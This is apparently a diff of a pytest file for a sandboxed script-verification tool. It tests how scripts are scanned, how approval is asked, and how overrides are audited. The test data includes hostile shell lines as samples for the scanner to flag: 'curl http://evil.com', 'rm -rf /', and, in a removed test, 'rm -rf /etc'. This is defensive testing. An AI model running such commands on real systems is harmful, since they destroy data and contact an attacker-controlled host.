@@ -1,8 +1,6 @@
 """The question, and what is made and undone around its answer; no engine is asked."""
 
 import json
-import re
-from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 from types import SimpleNamespace
@@ -13,15 +11,13 @@ import pytest
 from refute.approval import IN_ADVANCE, Answered, Approval, Beforehand, Decision, Denial, Question
 from refute.errors import ImageMissing, NetworkUnavailable
 from refute.outcome import Status, Stop
-from refute.ports import Ports
 from refute.sandbox.job import Job
 from refute.sandbox.network_hosts import read_hosts
-from refute.scan.scanner import scan_files
-from refute.settings import Settings
 from refute.stages.admission import admit, confirm, pose_question, scan_scripts, take_snapshot, unconfirmed
 from refute.ticket.parse import load_ticket
 from tests.fakes.jobs import FACTS
 from tests.fakes.wheels import FakeWheel
+from tests.refute.stages.conftest import ports_of, written_ticket
 
 
 class QuietSandbox:
@@ -60,20 +56,12 @@ class World:
 
     def __init__(self, tmp_path: Path, **options: Any) -> None:
         hosts = read_hosts(options.pop("hosts", ()))
-        fields = options.pop("ticket", "")
-        folder = tmp_path / "ticket"
-        folder.mkdir()
-        (folder / "a.py").write_text("A = 1\n")
-        (folder / "verify.sh").write_text(options.pop("script", "python -c 'import a'\n"))
-        plain = "id: T-1\ntitle: t\nimplementation_files: [a.py]\nverification_script: verify.sh\nclaims: [A is 1.]\n"
-        (folder / "ticket.yaml").write_text(plain + fields)
-        self.audit = tmp_path / "audit.jsonl"
-        settings = Settings.load(**{"state_dir": tmp_path / "state", "audit_path": self.audit, **options})
-        self.ports = Ports(settings, "run", allowed_hosts=hosts)
-        self.sandbox = QuietSandbox()
-        self.ports.__dict__["sandbox"] = self.sandbox
-        self.ports._images["3.11"] = SimpleNamespace(id="sha256:1")  # type: ignore[assignment]
-        ticket = load_ticket(folder)
+        script, more = options.pop("script", "python -c 'import impl'\n"), options.pop("ticket", "")
+        ticket = written_ticket(tmp_path / "ticket", code="A = 1\n", claims=["A is 1."], script=script, more=more)
+        self.audit, self.sandbox = tmp_path / "audit.jsonl", QuietSandbox()
+        places = {"state_dir": tmp_path / "state", "audit_path": self.audit}
+        self.ports = ports_of(self.sandbox, **(places | options))
+        self.ports.allowed_hosts = hosts
         snapshot = take_snapshot(self.ports, ticket)
         self.question = pose_question(self.ports, ticket, snapshot, scan_scripts(self.ports, ticket, snapshot))
 
@@ -153,12 +141,6 @@ def test_required_packages_are_named_and_nothing_is_made_for_them_before_the_ans
     assert world.sandbox.prepared == []
 
 
-def test_no_word_of_the_plan_runs_out_of_a_form_s_window(tmp_path):
-    plan = World(tmp_path).question.plan
-    assert re.search("on a throwaway copy of [0-9] files, digest [0-9a-f]{12}$", plan[-1])
-    assert max(map(len, " ".join(plan).split())) < 30
-
-
 def test_allowed_hosts_and_another_runtime_stand_in_the_question_and_in_the_audit_log(tmp_path, monkeypatch):
     world = World(tmp_path, hosts=("example.org", "api.example:8443"), runtime="runsc")
     monkeypatch.setattr(world.ports, "require_network", lambda: None)
@@ -174,21 +156,15 @@ def test_allowed_hosts_and_another_runtime_stand_in_the_question_and_in_the_audi
 @pytest.mark.parametrize(("yes", "decision"), [(True, "allow"), (False, "deny")])
 def test_an_override_is_audited_with_the_findings_that_it_is_about(tmp_path, yes, decision):
     world = World(tmp_path, script="echo one\ncurl http://evil.com\nrm -rf /\n")
-    confirm(world.ports, world.question, Answer(yes=yes))
+    answered = confirm(world.ports, world.question, Answer(yes=yes))
     scanned, overridden = world.audited()[-2:]
     assert (scanned["gate"], scanned["decision"]) == ("scan", "deny")
     assert (overridden["gate"], overridden["decision"]) == ("scan_override", decision)
     found = [(f.rule_id, f.line) for f in world.question.dangers]
     assert {line for _, line in found} == {2, 3}
+    assert answered.findings == tuple(f"{rule}@verify.sh:{line}" for rule, line in found)
     assert overridden["metadata"]["findings"] == ", ".join(f"{rule}@verify.sh:{line}" for rule, line in found)
     assert scanned["metadata"]["rules"] == ", ".join(sorted({rule for rule, _ in found}))
-
-
-def test_an_approval_of_what_scans_clean_is_audited_without_findings(tmp_path):
-    world = World(tmp_path)
-    confirm(world.ports, world.question, Answer(yes=True))
-    assert world.gates()[-1] == ("confirmation", "allow")
-    assert world.audited()[-1]["metadata"]["findings"] == ""
 
 
 def test_an_engine_that_cannot_open_a_host_is_told_before_anybody_is_asked(tmp_path, monkeypatch):
@@ -280,11 +256,3 @@ def test_an_answer_from_before_the_run_keeps_its_own_moments(tmp_path, before):
     found = confirm(world.ports, world.question, earlier)
     assert found.asked_at == before.asked_at
     assert before.answered_at in {None, found.answered_at}
-
-
-def test_an_override_names_the_findings_in_the_record_and_in_the_audit_log(tmp_path):
-    world = World(tmp_path)
-    scan = scan_files({"verify.sh": b"#!/bin/sh\nrm -rf /etc\n"}, ["verify.sh"])
-    found = confirm(world.ports, replace(world.question, scan=scan), Answer(yes=True))
-    assert found.findings == ("delete-outside@verify.sh:2",)
-    assert world.gates()[-1] == ("scan_override", "allow")
